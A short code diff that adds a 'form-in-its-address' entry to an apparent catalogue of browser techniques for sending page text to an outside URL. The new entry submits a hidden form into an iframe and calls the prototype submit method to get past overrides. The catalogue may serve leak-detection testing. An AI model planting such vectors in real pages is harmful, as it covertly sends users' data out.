@@ -187,6 +187,20 @@ export const TRICKS: readonly Vector[] = [
     only: "chromium",
   },
   {
+    name: "form-in-its-address",
+    run: (text, url) => {
+      const frame = document.createElement("iframe");
+      frame.name = "taker";
+      const form = document.createElement("form");
+      form.method = "post";
+      form.target = "taker";
+      form.action = `${url}?q=${encodeURIComponent(text)}`;
+      form.innerHTML = '<input name="action" value="clean">';
+      document.body.append(frame, form);
+      HTMLFormElement.prototype.submit.call(form);
+    },
+  },
+  {
     name: "document-open-window",
     run: (text, url) => document.open(`${url}?q=${encodeURIComponent(text)}`, "_blank", ""),
   },
